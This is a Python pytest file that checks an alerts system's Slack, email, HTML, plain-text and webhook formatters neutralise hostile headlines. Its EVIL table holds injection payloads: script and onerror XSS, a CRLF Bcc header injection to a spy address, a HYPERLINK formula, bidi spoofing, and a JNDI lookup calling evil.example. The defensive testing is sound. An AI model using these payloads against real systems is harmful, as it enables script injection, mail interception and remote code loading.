"""The same evil headline through every channel: it arrives as text that does nothing."""

from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest

from alerts.channels import Service, send
from alerts.messages import mail, plain_text, report, slack_blocks, webhook_json
from alerts.messages.message import Message, compose
from alerts.outbox.delivery import deliver
from alerts.outbox.outbox import Outbox
from newsroom.servers.slack import Fault, running_slack
from newsroom.servers.slack_limits import find_error
from tests.alerts.briefs import NOW, brief, story
from tests.alerts.servers import LOOPBACK, hook, slack_at

EVIL = {
    "slack call": "<!channel> <!here> <@U123> <https://evil.example|click>",
    "markdown": "*bold* _it_ ~no~ `code` [x](https://evil.example) # @everyone",
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "line breaks": "one\r\nBcc: spy@evil.example\r\n\r\ntwo\u2028three\x85four",
    "formula": '=HYPERLINK("https://evil.example")',
    "direction": "\u202etxt.exe\u202c \u2066x\u2069 \u200f",
    "long": "x" * 10_000,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 " * 40,
    "nul": "a\x00b\x1b[31mred\x07",
    "surrogate": "a\ud800b",
    "empty": "",
    "template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example}",
}
every_evil = pytest.mark.parametrize("evil", EVIL.values(), ids=EVIL.keys())


def message(evil: str) -> Message:
    stories = tuple(story(number, title=evil, publisher=evil, evidence=evil, url=evil) for number in range(9))
    return compose(
        brief(topic_title=evil, stories=stories, publishers=(evil,) * 9, new_words=(evil,), previous=evil, link=evil)
    )


def is_tame(text: str) -> bool:
    return not set(text) & set("\x00\x07\x1b\r\x85\u2028\u202a\u202e\u2066\u2069\u200f\ud800")


@every_evil
def test_slack_takes_it_and_reads_no_markup_in_it(evil: str) -> None:
    payload = slack_blocks.payload(message(evil))
    assert find_error(payload) is None
    assert "<" not in payload["text"]
    assert "mrkdwn" not in str(payload["blocks"])


@every_evil
def test_a_mail_keeps_its_headers_and_its_parts(evil: str) -> None:
    made = mail.mail_of(message(evil), sender="a@b.example", recipients=["c@d.example"], at=NOW)
    read = message_from_bytes(made.as_bytes(), policy=default)
    assert read["Bcc"] is None
    assert read["To"] == "c@d.example"
    assert is_tame(read["Subject"])
    text = read.get_body(("plain",))
    assert text is not None
    assert is_tame(text.get_content().replace("\r\n", "\n"))


@every_evil
def test_html_shows_it_as_text(evil: str) -> None:
    html = mail.html(message(evil), picture="")
    page = report.page([brief(topic_title=evil, stories=(story(title=evil, url=evil),))], since=NOW, until=NOW)
    assert "<script" not in html + page
    assert "onerror=alert(1)>" not in html + page
    assert is_tame(html)


@every_evil
def test_plain_text_and_json_have_no_hidden_characters(evil: str) -> None:
    assert is_tame(plain_text.text(message(evil)))
    assert is_tame(str(webhook_json.body(message(evil))["headline"]))


@pytest.mark.filterwarnings("ignore:'imghdr' is deprecated")  # Apprise imports it
def test_a_service_calls_nobody() -> None:
    with hook() as server:
        send(message(EVIL["markdown"]), Service(url=f"json://127.0.0.1:{server.server_port}", allow_networks=LOOPBACK))
    assert "@everyone" not in server.taken[0]["title"] + server.taken[0]["message"]


def test_no_secret_is_written_into_the_outbox_or_a_log(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG")
    path = tmp_path / "outbox.sqlite"
    with running_slack() as slack, Outbox(path) as outbox:
        slack.fail(Fault.SERVER_ERROR, Fault.REPLY_LOST)
        outbox.enqueue([(compose(brief()), name) for name in ("one", "two", "three")], now=NOW)
        channels = {name: slack_at(slack.webhook_url) for name in ("one", "two", "three")}
        rows = deliver(outbox, channels, now=NOW)
    assert len(rows) == 3
    secret = "/services/"
    assert secret not in caplog.text + str(rows)
    assert not any(secret.encode() in file.read_bytes() for file in tmp_path.iterdir())
